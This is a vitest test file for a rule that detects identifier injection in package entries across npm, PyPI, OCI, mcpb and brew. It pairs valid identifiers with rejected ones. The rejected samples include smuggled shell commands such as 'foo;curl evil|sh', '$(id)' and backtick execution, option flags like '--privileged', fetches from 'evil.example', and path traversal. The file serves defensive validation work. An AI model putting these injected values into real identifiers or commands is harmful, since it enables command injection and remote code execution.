import { describe, expect, it } from "vitest";
import { identifierInjection } from "@/lib/checks/rules/p003-identifier-injection";
import { findingsOfPackage, npmPackage } from "@/lib/checks/testing/fixtures";

describe("P003 identifier injection", () => {
  it.each([
    ["npm", "@example/weather-mcp"], ["npm", "JSONStream"], ["pypi", "awslabs.aws-documentation-mcp-server"], ["nuget", "Contoso.Mcp"], ["cargo", "mcp_server"],
    ["oci", "ghcr.io/example/weather:1.2.0"], ["oci", `registry.example:5000/a/b@sha256:${"ab".repeat(32)}`], ["oci", "mcp/time"],
    ["mcpb", "https://example.com/releases/download/v1.0.0/weather.mcpb"], ["brew", "example/tap/weather"],
  ])("accepts the %s identifier %s", (registryType, identifier) => {
    expect(findingsOfPackage(identifierInjection, npmPackage({ registryType, identifier }))).toEqual([]);
  });

  it.each([
    ["npm", "--yes evil"], ["npm", "-p"], ["npm", "@example/x@latest"], ["npm", "https://evil.example/x.tgz"], ["npm", "git+https://evil.example/x"],
    ["npm", "npm:other"], ["npm", "file:../x"], ["npm", "foo;curl evil|sh"], ["npm", "$(id)"], ["npm", "../x"], ["npm", "a/../b"], ["npm", ""],
    ["pypi", "pkg @ https://evil.example/x.whl"], ["pypi", "pkg==1.0"], ["oci", "ghcr.io/a/b --privileged"], ["oci", "ghcr.io/../b"],
    ["mcpb", "http://example.com/a.mcpb"], ["mcpb", "https://example.com/a.mcpb;id"], ["brew", "x`id`"],
  ])("refuses the %s identifier %j", (registryType, identifier) => {
    const findings = findingsOfPackage(identifierInjection, npmPackage({ registryType, identifier }));
    expect(findings.map((finding) => finding.pointer)).toEqual(["/packages/0/identifier"]);
  });
});
